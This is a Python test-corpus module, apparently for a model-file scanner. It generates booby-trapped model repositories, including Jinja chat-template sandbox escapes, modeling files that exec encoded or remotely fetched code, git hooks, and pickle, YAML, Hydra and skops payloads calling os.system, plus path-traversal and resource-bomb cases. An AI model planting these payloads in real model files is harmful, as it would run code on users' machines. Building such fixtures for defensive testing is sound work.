"""Folders as they are published: configurations, templates, code beside the weights, and packages of frameworks."""

# ruff: noqa: E501 - tables, one entry a line

import io
import json
import tarfile
from collections.abc import Callable
from typing import Any

from tests.corpora.models.attacks.payload import ADDRESS, CODE, MARKER, SHELL
from tests.corpora.models.attacks.pickle_streams import EVIL, checkpoint
from tests.corpora.models.attacks.registry import Acts, Attack, Made, Maker, add, always, attack
from tests.corpora.models.attacks.tensors import ESCAPE, safetensors
from tests.corpora.models.attacks.zips import archive

_CONSENT = "runs where its framework is told to trust it"
_HARM = f"import os\nos.system({SHELL!r})\n"
_WEIGHTS = safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}})


def js(value: Any) -> bytes:
    """A configuration file."""
    return json.dumps(value, indent=2).encode()


# ── Chat templates ───────────────────────────────────────────────────────────────────────────────────────────────

_POPEN = f".os.popen({SHELL!r}).read()"
_TEMPLATES: dict[str, tuple[str, str]] = {
    "cycler": ("by the globals of `cycler`", ESCAPE),
    "joiner": ("by the globals of `joiner`", "{{ joiner.__init__.__globals__" + _POPEN + " }}"),
    "namespace": ("by the globals of `namespace`", "{{ namespace.__init__.__globals__" + _POPEN + " }}"),
    "lipsum": ("by the globals of `lipsum`", "{{ lipsum.__globals__['os'].popen('" + SHELL + "').read() }}"),
    "self": ("by the template itself", "{{ self.__init__.__globals__.__builtins__.__import__('os').system('" + SHELL + "') }}"),
    "subclasses": ("down the subclasses of `object`", "{% for c in ''.__class__.__mro__[-1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}{{ c.__init__.__globals__['system']('" + SHELL + "') }}{% endif %}{% endfor %}"),
    "attr-filter": ("by the filter `attr`", "{{ (((cycler|attr('__init__'))|attr('__globals__'))['os']).system('" + SHELL + "') }}"),
    "attr-escaped": ("by `attr` with names in escapes", r"{{ (((cycler|attr('\x5f\x5finit\x5f\x5f'))|attr('\x5f\x5fglobals\x5f\x5f'))['os']).system('" + SHELL + "') }}"),
    "concatenated": ("by a name put together with `~`", "{{ cycler['__in' ~ 'it__']['__glob' ~ 'als__']['os'].system('" + SHELL + "') }}"),
    "joined": ("by a name put together with `join`", "{% set n = ['_', '_globals_', '_']|join %}{{ (cycler.__init__|attr(n))['os'].system('" + SHELL + "') }}"),
    "reversed": ("by a name written backwards", "{{ (cycler.__init__|attr('__slabolg__'[::-1]))['os'].system('" + SHELL + "') }}"),
    "formatted": ("by a name out of a format", "{{ (cycler.__init__|attr('%sglobals%s' % ('__', '__')))['os'].system('" + SHELL + "') }}"),
    "replaced": ("by a name after `replace`", "{{ (cycler.__init__|attr('XXglobalsXX'|replace('X', '_')))['os'].system('" + SHELL + "') }}"),
    "map-attribute": ("by `map(attribute=…)`", "{{ ([cycler]|map(attribute='__init__.__globals__')|list)[0]['os'].system('" + SHELL + "') }}"),
    "in-condition": ("inside a condition, printing nothing", "{% if cycler.__init__.__globals__.os.system('" + SHELL + "') %}{% endif %}{{ messages }}"),
    "in-set": ("inside an assignment", "{% set _ = cycler.__init__.__globals__.os.system('" + SHELL + "') %}{{ messages }}"),
    "in-macro": ("inside a macro that is called far below", "{% macro m() %}{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}{% endmacro %}" + "{# notes #}" * 50 + "{{ m() }}"),
    "in-loop": ("inside a loop over messages", "{% for m in [1] %}{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}{% endfor %}"),
    "format-string": ("by a format string, which reads attributes", "{{ '{0.__init__.__globals__}'.format(cycler) }}{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}"),
    "undefined": ("by the globals of what is not defined", "{{ nothing.__init__.__globals__.__builtins__.eval(\"__import__('os').system('" + SHELL + "')\") }}"),
    "template-reference": ("by the context's environment", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('" + SHELL + "') }}"),
    "filter-section": ("inside a filter block", "{% filter upper %}{{ lipsum.__globals__.os.system('" + SHELL + "') }}{% endfilter %}"),
    "long-plain-before": ("behind forty kilobytes of ordinary template", "{% for m in messages %}{{ m.role }}{% endfor %}\n" * 1000 + ESCAPE),
}  # fmt: skip


def _tokenizer(template: Any, **more: Any) -> dict[str, Any]:
    return {"tokenizer_class": "LlamaTokenizer", "bos_token": "<s>", "chat_template": template, **more}


for _id, (_says, _template) in _TEMPLATES.items():
    _body = js(_tokenizer(_template))
    add(Attack(f"template-{_id}", "use", "templates", f"a chat template that escapes {_says}", "",
               always({"tokenizer_config.json": _body}), "template", ("jinja2",)))  # fmt: skip


def _unseen_template(id: str, says: str, acts: Acts = "use") -> Callable[[Maker], Maker]:
    return attack(
        f"template-{id}", acts=acts, family="templates", says=says, proof="template", needs=("jinja2",)
    )


@_unseen_template("file", "a chat template in a file of its own")
def _() -> Made:
    return {"chat_template.jinja": ESCAPE.encode(), "tokenizer_config.json": js({"bos_token": "<s>"})}


@_unseen_template("additional-file", "a second chat template in its folder")
def _() -> Made:
    return {
        "additional_chat_templates/tools.jinja": ESCAPE.encode(),
        "chat_template.jinja": b"{{ messages }}",
    }


@_unseen_template("json", "a chat template of a processor")
def _() -> Made:
    return {"chat_template.json": js({"chat_template": ESCAPE})}


@_unseen_template("processor", "a chat template in the processor's configuration")
def _() -> Made:
    return {"processor_config.json": js({"processor_class": "LlavaProcessor", "chat_template": ESCAPE})}


@_unseen_template("list", "several chat templates, the second escapes")
def _() -> Made:
    named = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": ESCAPE}]
    return {"tokenizer_config.json": js(_tokenizer(named))}


@_unseen_template("mapping", "several chat templates by name")
def _() -> Made:
    return {"tokenizer_config.json": js(_tokenizer({"default": "{{ messages }}", "rag": ESCAPE}))}


for _id, _says, _template in (
    ("endless", "counts to a trillion", "{% for i in range(1000000000000) %}{{ i }}{% endfor %}"),
    ("nested-loops", "counts in four loops", "{% for a in range(99999) %}" * 4 + "x" + "{% endfor %}" * 4),
    ("repeat-bomb", "repeats a letter ten billion times", "{{ 'a' * 10000000000 }}"),
    ("include", "includes a file by its path", "{% include '/etc/passwd' %}"),
    ("import", "imports from a file by its path", "{% import '../../other.jinja' as o %}{{ o.x() }}"),
    ("broken", "cannot be parsed", "{% for m in messages %}{{ m.content }"),
    (
        "request",
        "asks for a web framework's objects",
        "{{ request.application.__globals__.__builtins__.open('x') }}",
    ),
    (
        "strftime",
        "asks for the globals of a function that only transformers gives",
        "{{ strftime_now.__globals__ }}",
    ),
    (
        "raise-exception",
        "asks for the globals of `raise_exception`",
        "{{ raise_exception.__globals__['__builtins__'] }}",
    ),
):
    _body = js(_tokenizer(_template))
    _act: Acts = "use" if "__" in _template else "none"
    add(Attack(f"template-{_id}", _act, "templates", f"a chat template that {_says}", "",
               always({"tokenizer_config.json": _body}), unproved="a marker cannot show it"))  # fmt: skip


# ── Repositories ─────────────────────────────────────────────────────────────────────────────────────────────────


def _repo(
    family: str, id: str, says: str, acts: Acts, suffix: str = "", why: str = _CONSENT
) -> Callable[[Maker], Maker]:
    return attack(f"{family}-{id}", acts=acts, family=family, says=says, suffix=suffix, unproved=why)


def _config(**more: Any) -> bytes:
    return js({"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 8, **more})


def _hub(id: str, says: str, acts: Acts = "load") -> Callable[[Maker], Maker]:
    return _repo("hub", id, says, acts)


_MODELING = _HARM + "from transformers import PreTrainedModel\n\n\nclass Net(PreTrainedModel):\n    pass\n"


@_hub("auto-map", "a configuration that maps to code beside it, which acts when it is imported")
def _() -> Made:
    return {
        "config.json": _config(auto_map={"AutoModel": "modeling_net.Net"}),
        "modeling_net.py": _MODELING.encode(),
        "model.safetensors": _WEIGHTS,
    }


@_hub("auto-map-elsewhere", "a configuration that maps to the code of another repository", "use")
def _() -> Made:
    return {
        "config.json": _config(auto_map={"AutoModel": "somebody/weights--modeling_net.Net"}),
        "model.safetensors": _WEIGHTS,
    }


@_hub("auto-map-tokenizer", "a tokenizer's configuration that maps to code beside it")
def _() -> Made:
    config = {"tokenizer_class": "Words", "auto_map": {"AutoTokenizer": ["words.Words", None]}}
    return {"tokenizer_config.json": js(config), "words.py": _HARM.encode()}


@_hub("auto-map-processor", "a processor's configuration that maps to code beside it")
def _() -> Made:
    return {
        "preprocessor_config.json": js({"auto_map": {"AutoImageProcessor": "images.Images"}}),
        "images.py": _HARM.encode(),
    }


@_hub("auto-map-encoded", "code beside the weights that decodes what it runs")
def _() -> Made:
    import base64

    packed = base64.b64encode(CODE.encode()).decode()
    code = f"import base64\nexec(base64.b64decode('{packed}'))\n"
    return {
        "config.json": _config(auto_map={"AutoConfig": "configuration_net.Config"}),
        "configuration_net.py": code.encode(),
    }


@_hub("auto-map-indirect", "code beside the weights that imports another file, which acts")
def _() -> Made:
    return {
        "config.json": _config(auto_map={"AutoModel": "modeling_net.Net"}),
        "modeling_net.py": b"from .layers import Layer\n\n\nclass Net(Layer):\n    pass\n",
        "layers.py": f"getattr(__import__('o' + 's'), 'sys' + 'tem')({SHELL!r})\n\n\nclass Layer: ...\n".encode(),
    }


@_hub("auto-map-network", "code beside the weights that fetches what it runs")
def _() -> Made:
    code = f"import urllib.request\nexec(urllib.request.urlopen({ADDRESS!r}).read())\n"
    return {
        "config.json": _config(auto_map={"AutoModel": "modeling_net.Net"}),
        "modeling_net.py": code.encode(),
    }


@_hub("auto-map-missing", "a configuration that maps to code that is not there", "none")
def _() -> Made:
    return {"config.json": _config(auto_map={"AutoModel": "modeling_net.Net"}), "model.safetensors": _WEIGHTS}


@_hub("auto-map-traversal", "a configuration that maps to code outside the repository", "use")
def _() -> Made:
    return {"config.json": _config(auto_map={"AutoModel": "../../../tmp/modeling_net.Net"})}


@_hub("trust-remote-code", "a configuration that gives the consent itself", "none")
def _() -> Made:
    return {"config.json": _config(trust_remote_code=True), "model.safetensors": _WEIGHTS}


@_hub("code-unmapped", "code beside the weights that nothing maps to, and that acts", "use")
def _() -> Made:
    return {"config.json": _config(), "utils.py": _HARM.encode(), "model.safetensors": _WEIGHTS}


@_hub("custom-generate", "a generation of its own, in the folder where it is looked for")
def _() -> Made:
    return {
        "config.json": _config(),
        "custom_generate/generate.py": (_HARM + "\n\ndef generate(model, **more): ...\n").encode(),
    }


@_hub("custom-pipeline", "a pipeline of its own")
def _() -> Made:
    config = {"custom_pipelines": {"weights": {"impl": "my_pipeline.Pipeline", "pt": ["AutoModel"]}}}
    return {"config.json": _config(**config), "my_pipeline.py": _HARM.encode()}


@_hub("diffusers-component", "a diffusers index whose component is a module beside it")
def _() -> Made:
    index = {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Net"]}
    return {"model_index.json": js(index), "unet/my_unet.py": _HARM.encode()}


@_hub("diffusers-pipeline", "a diffusers pipeline of its own")
def _() -> Made:
    return {"model_index.json": js({"_class_name": ["pipeline", "Pipeline"]}), "pipeline.py": _HARM.encode()}


@_hub("sentence-module", "a sentence-transformers module of a type of its own")
def _() -> Made:
    modules = [{"idx": 0, "name": "0", "path": "", "type": "my_module.Words"}]
    return {"modules.json": js(modules), "my_module.py": _HARM.encode()}


@_hub("sentence-type-os", "a sentence-transformers module whose type is a function of the system")
def _() -> Made:
    return {"modules.json": js([{"idx": 0, "name": "0", "path": SHELL, "type": "os.system"}])}


@_hub("endpoint-handler", "a handler that a hosted endpoint runs", "use")
def _() -> Made:
    return {"config.json": _config(), "handler.py": (_HARM + "\n\nclass EndpointHandler: ...\n").encode()}


@_hub("hubconf", "a hubconf.py that acts when torch.hub reads it")
def _() -> Made:
    return {"hubconf.py": (_HARM + "\n\ndef net(): ...\n").encode(), "weights.safetensors": _WEIGHTS}


@_hub("pickle-beside-safetensors", "safetensors in the foreground, a pickle that acts beside it")
def _() -> Made:
    return {
        "config.json": _config(),
        "model.safetensors": _WEIGHTS,
        "pytorch_model.bin": archive(*checkpoint()),
    }


@_hub("training-args", "training arguments that act")
def _() -> Made:
    return {
        "config.json": _config(),
        "model.safetensors": _WEIGHTS,
        "training_args.bin": archive(*checkpoint()),
    }


@_hub("optimizer-state", "an optimizer's state that acts")
def _() -> Made:
    return {
        "config.json": _config(),
        "checkpoint-10/optimizer.pt": archive(*checkpoint()),
        "model.safetensors": _WEIGHTS,
    }


@_hub("hidden-folder", "a pickle that acts in a hidden folder")
def _() -> Made:
    return {"config.json": _config(), "model.safetensors": _WEIGHTS, ".cache/x/.weights": EVIL}


@_hub("index-traversal", "an index of shards that points outside", "none")
def _() -> Made:
    index = {"metadata": {"total_size": 16}, "weight_map": {"w": "../../../etc/passwd"}}
    return {"config.json": _config(), "model.safetensors.index.json": js(index)}


@_hub("index-pickle", "an index of safetensors whose shards are pickles that act")
def _() -> Made:
    index = {"metadata": {}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}
    return {
        "model.safetensors.index.json": js(index),
        "model-00001-of-00001.safetensors": archive(*checkpoint()),
    }


@_hub("lfs-pointer", "a pointer to weights that are not there", "none")
def _() -> Made:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 440449768\n"
    return {"config.json": _config(), "model.safetensors": pointer.encode()}


@_hub("adapter-pickle", "an adapter whose weights are a pickle that acts")
def _() -> Made:
    return {
        "adapter_config.json": js({"peft_type": "LORA", "base_model_name_or_path": "bert-base"}),
        "adapter_model.bin": archive(*checkpoint()),
    }


@_hub("adapter-auto-mapping", "an adapter that names the module of its base", "use")
def _() -> Made:
    mapping = {"base_model_class": "Net", "parent_library": "my_module"}
    return {
        "adapter_config.json": js(
            {"peft_type": "LORA", "auto_mapping": mapping, "base_model_name_or_path": "../x"}
        ),
        "my_module.py": _HARM.encode(),
    }


@_hub("git-hook", "a hook of git in the repository", "use")
def _() -> Made:
    return {"config.json": _config(), ".git/hooks/post-checkout": f"#!/bin/sh\n{SHELL}\n".encode()}


# ── Packages of frameworks ───────────────────────────────────────────────────────────────────────────────────────


def tar(members: dict[str, bytes], *more: tarfile.TarInfo, mode: str = "w") -> bytes:
    """A tar of these files and of whatever else."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as out:  # type: ignore[call-overload]
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            out.addfile(info, io.BytesIO(content))
        for info in more:
            out.addfile(info)
    return buffer.getvalue()


def _mlflow(flavor: str) -> bytes:
    return f"artifact_path: model\nflavors:\n  python_function:\n{flavor}    env: conda.yaml\nmlflow_version: 2.9.2\n".encode()


@_repo("mlflow", "loader-module", "an MLmodel whose loader is a module beside it", "load")
def _() -> Made:
    return {
        "MLmodel": _mlflow("    loader_module: my_loader\n    code: code\n"),
        "code/my_loader.py": _HARM.encode(),
    }


@_repo("mlflow", "python-model", "an MLmodel whose Python model is a pickle that acts", "load")
def _() -> Made:
    flavor = "    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    cloudpickle_version: 3.0.0\n"
    return {"MLmodel": _mlflow(flavor), "python_model.pkl": EVIL}


@_repo("mlflow", "artifact-traversal", "an MLmodel whose artifacts lie outside", "none")
def _() -> Made:
    return {"MLmodel": _mlflow("    loader_module: mlflow.sklearn\n    model_path: ../../../../etc/passwd\n")}


@_repo("mlflow", "yaml-tag", "an MLmodel with a Python tag", "load")
def _() -> Made:
    return {"MLmodel": _mlflow(f"    loader_module: !!python/object/apply:os.system ['{SHELL}']\n")}


@_repo("mlflow", "model-code", "an MLmodel that is a script, run when it is loaded", "load")
def _() -> Made:
    flavor = "    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n"
    return {"MLmodel": _mlflow(flavor), "model.py": _HARM.encode()}


def _nemo(config: str, weights: bytes = b"") -> bytes:
    return tar(
        {
            "./model_config.yaml": config.encode(),
            "./model_weights.ckpt": weights or archive(("archive/version", b"3\n")),
        }
    )


@_repo("nemo", "target-os", "a NeMo archive whose configuration names `os.system` as target", "load", ".nemo")
def _() -> Made:
    return _nemo(
        f"target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: os.system\n  command: {SHELL}\n"
    )


@_repo(
    "nemo", "target-exec", "a NeMo archive with `builtins.exec` deep in its configuration", "load", ".nemo"
)
def _() -> Made:
    return _nemo(f'model:\n  layers:\n  - a: {{b: {{_target_: builtins.exec, _args_: ["{CODE}"]}}}}\n')


@_repo("nemo", "weights", "a NeMo archive whose weights act", "load", ".nemo")
def _() -> Made:
    return _nemo("target: nemo.core.ModelPT\n", archive(*checkpoint()))


@_repo("nemo", "traversal", "a NeMo archive with a member that climbs out", "load", ".nemo")
def _() -> Made:
    return tar({"model_config.yaml": b"target: x\n", "../../../tmp/alcaide-marker": b"x"})


@_repo("hydra", "target", "a Hydra configuration with a target of the system", "use", ".yaml")
def _() -> Made:
    return f"model:\n  _target_: subprocess.Popen\n  args: [touch, {MARKER}]\n".encode()


@_repo("hydra", "get-method", "a Hydra configuration that fetches a method and calls it", "use", ".yaml")
def _() -> Made:
    return f"model:\n  _target_: functools.partial\n  _args_:\n  - {{_target_: hydra.utils.get_method, path: os.system}}\n  - {SHELL}\n".encode()


def _skops(node: dict[str, Any], *more: tuple[str, bytes]) -> bytes:
    schema = {**node, "protocol": 2, "_skops_version": "0.11.0"}
    return archive(("schema.json", js(schema)), *more)


@_repo("skops", "function", "a skops file with a function of the system", "use", ".skops")
def _() -> Made:
    return _skops(
        {
            "__class__": "function",
            "__module__": "os",
            "__loader__": "FunctionNode",
            "content": {"module_path": "os", "function": "system"},
        }
    )


@_repo("skops", "partial", "a skops file with a partial over `builtins.exec`", "use", ".skops")
def _() -> Made:
    inner = {
        "__class__": "exec",
        "__module__": "builtins",
        "__loader__": "FunctionNode",
        "content": {"module_path": "builtins", "function": "exec"},
    }
    return _skops(
        {
            "__class__": "partial",
            "__module__": "functools",
            "__loader__": "PartialNode",
            "content": {"func": inner, "args": {}, "kwargs": {}, "namespace": {}},
        }
    )


@_repo("skops", "type", "a skops file with a type of the system", "use", ".skops")
def _() -> Made:
    return _skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode"})


@_repo("skops", "object-unknown", "a skops file with an object of a class nobody knows", "none", ".skops")
def _() -> Made:
    return _skops(
        {"__class__": "Weights", "__module__": "weights_helper", "__loader__": "ObjectNode", "content": {}}
    )


@_repo(
    "skops", "operator", "a skops file with a function of `operator` that fetches methods", "use", ".skops"
)
def _() -> Made:
    return _skops(
        {
            "__class__": "methodcaller",
            "__module__": "operator",
            "__loader__": "OperatorFuncNode",
            "attrs": {
                "__class__": "tuple",
                "__module__": "builtins",
                "__loader__": "TupleNode",
                "content": [],
            },
        }
    )


@_repo("skops", "pickle-member", "a skops file with a pickle that acts among its members", "load", ".skops")
def _() -> Made:
    return _skops(
        {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []},
        ("1.npy", EVIL),
    )


@_repo("spacy", "config-code", "a spaCy pipeline whose component comes from code beside it", "load")
def _() -> Made:
    config = '[nlp]\nlang = "en"\npipeline = ["x"]\n[components.x]\nfactory = "my_component"\n[initialize.before_init]\n@callbacks = "run.v1"\n'
    return {
        "config.cfg": config.encode(),
        "meta.json": js({"lang": "en", "name": "x"}),
        "my_component.py": _HARM.encode(),
    }


@_repo("paddle", "params", "PaddlePaddle parameters, which are a pickle that acts", "load", ".pdparams")
def _() -> Made:
    return EVIL


@_repo(
    "lightgbm", "pickled-sklearn", "a LightGBM wrapper in a pickle, with a call in its state", "load", ".pkl"
)
def _() -> Made:
    from tests.corpora.models.attacks import opcodes as op

    booster = op.named("lightgbm.basic", "Booster") + op.EMPTY_TUPLE + op.NEWOBJ
    return op.stream(booster, op.push({"handle": op.call("os:system", SHELL), "params": {}}), op.BUILD)


@_repo(
    "xgboost", "pickled-booster", "an XGBoost wrapper in a pickle, with a call in its state", "load", ".pkl"
)
def _() -> Made:
    from tests.corpora.models.attacks import opcodes as op

    booster = op.named("xgboost.core", "Booster") + op.EMPTY_TUPLE + op.NEWOBJ
    return op.stream(
        booster, op.push({"handle": op.raw(b"x"), "callbacks": op.call("os:system", SHELL)}), op.BUILD
    )


@_repo("catboost", "pickled-model", "a CatBoost model in a pickle, with a call in its state", "load", ".pkl")
def _() -> Made:
    from tests.corpora.models.attacks import opcodes as op

    model = op.named("catboost.core", "CatBoostClassifier") + op.EMPTY_TUPLE + op.NEWOBJ
    return op.stream(model, op.push({"params": {"custom_loss": op.call("builtins:eval", CODE)}}), op.BUILD)


@_repo(
    "sklearn",
    "function-transformer",
    "a scikit-learn transformer whose function is `os.system`",
    "use",
    ".joblib",
)
def _() -> Made:
    from tests.corpora.models.attacks import opcodes as op

    kind = (
        op.named("sklearn.preprocessing._function_transformer", "FunctionTransformer")
        + op.EMPTY_TUPLE
        + op.NEWOBJ
    )
    return op.stream(kind, op.push({"func": op.named("os", "system"), "validate": False}), op.BUILD)


@_repo(
    "sklearn",
    "vectorizer-analyzer",
    "a scikit-learn vectorizer whose analyzer is `builtins.eval`",
    "use",
    ".pkl",
)
def _() -> Made:
    from tests.corpora.models.attacks import opcodes as op

    kind = op.named("sklearn.feature_extraction.text", "CountVectorizer") + op.EMPTY_TUPLE + op.NEWOBJ
    return op.stream(kind, op.push({"analyzer": op.named("builtins", "eval")}), op.BUILD)


@_repo("flax", "msgpack-bomb", "a Flax file whose array claims more than it has", "none", ".msgpack")
def _() -> Made:
    return b"\x81\xa6params\xdd\xff\xff\xff\xff\x01"


@_repo("orbax", "pickle", "an Orbax checkpoint with a pickle among its files", "load")
def _() -> Made:
    return {"checkpoint/_METADATA": b"{}", "checkpoint/aux": EVIL}
